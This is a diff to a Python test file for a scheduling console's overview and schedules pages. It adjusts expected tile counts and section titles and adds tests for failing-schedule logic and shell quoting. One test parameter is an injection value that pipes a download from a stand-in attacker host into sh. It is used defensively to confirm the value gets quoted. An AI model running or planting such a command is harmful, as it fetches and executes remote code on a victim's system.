@@ -200,7 +200,8 @@ def test_the_overview_puts_failures_first(
     assert page.status == 200
     counts = {label.strip(): int(n) for n, label in _tiles(page.body)}
     assert counts == {"running": 2, "waiting": 0, "failed (24 h)": 1, "missed (24 h)": 1,
-                      "held by freezes (24 h)": 1, "roll-outs stopped": 0}  # fmt: skip
+                      "held by freezes (24 h)": 1, "roll-outs stopped": 0,
+                      "out of step with Git": 0}  # fmt: skip
     failing, failures, misses = _sections(page.body)
     assert _schedules(failing) == ["flaky"]
     assert "controller said &lt;b&gt;no&lt;/b&gt;" in failures
@@ -224,7 +225,7 @@ def _sections(body: str) -> list[str]:
     """The failing schedules', latest failures' and latest misses' parts of the overview."""
     parts = re.split(r"<h2>", body)
     return [next(p for p in parts if p.startswith(title)) for title in
-            ("Failing schedules", "Latest failures", "Latest missed firings")]  # fmt: skip
+            ("Failing schedules", "Latest failures", "Latest missed and held firings")]  # fmt: skip
 
 
 def _schedules(part: str) -> list[str]:
@@ -314,10 +315,41 @@ def test_the_schedules_page_shows_results_sorts_failing_first_and_pages(
     assert first.all("a", href="/schedules?page=2", rel="next")
     second = console.get("/schedules?page=2")
     assert _schedules(second.body) == ["s100", "s101", "s102", "s103", "s104", "zz-flaky"]
-    assert re.search(r'class="status-failed">failed 1/2\b', second.body)
+    assert re.search(rf'class="status-failed"><a href="/tasks\?schedule={flaky.id}&amp;status=failed">'
+                     r"failed 1/2\b", second.body)  # fmt: skip
     failing = console.get("/schedules?sort=result&enabled=yes")
     assert _schedules(failing.body)[:2] == ["zz-flaky", "s000"]  # failing, then running
     assert failing.all("a", href="/schedules?sort=result&enabled=yes&page=2", rel="next")
     assert _schedules(console.get("/schedules?page=99").body)[-1] == "zz-flaky"  # the last
     assert console.get("/schedules?sort=bogus").status == 400
     assert console.get("/schedules?page=0").status == 400
+
+
+def test_a_schedule_that_failed_today_is_failing_though_its_latest_task_completed(
+    service: Service, fleet: Fleet, clock, console: Console
+) -> None:
+    flaky = _due(service, clock, fleet.racks[:1], "flaky")
+    (fired,) = service.fire_due()
+    _fail(service, fired.task_ids, "boom")
+    clock.advance(hours=1)  # due again: this time it completes
+    (again,) = service.fire_due()
+    with transaction(service.engine) as conn:
+        conn.execute(task.update().where(task.c.id.in_(again.task_ids))
+                     .values(status="completed", finished_at=clock.now))  # fmt: skip
+    failing, _, _ = _sections(console.get("/").body)
+    assert _schedules(failing) == ["flaky"]
+    assert '<td data-label="Failed (24 h)">1</td>' in failing
+    assert '&amp;status=failed">completed</a>' in failing  # to its failed tasks
+    clock.advance(days=2)  # a day later it is no longer failing
+    assert "None: the latest task" in console.get("/").body
+    assert flaky.name == "flaky"
+
+
+@pytest.mark.parametrize("owner", ["fleet; curl https://evil.example/x | sh #", "o'brien"])
+def test_the_overview_quotes_an_owner_in_the_command_it_suggests(owner: str) -> None:
+    import shlex
+
+    from rackcron.console.overview import SyncStatus
+
+    command = SyncStatus(owner, "drifted", [], 3).command
+    assert shlex.split(command) == ["rackcron", "status", "--owner", owner]
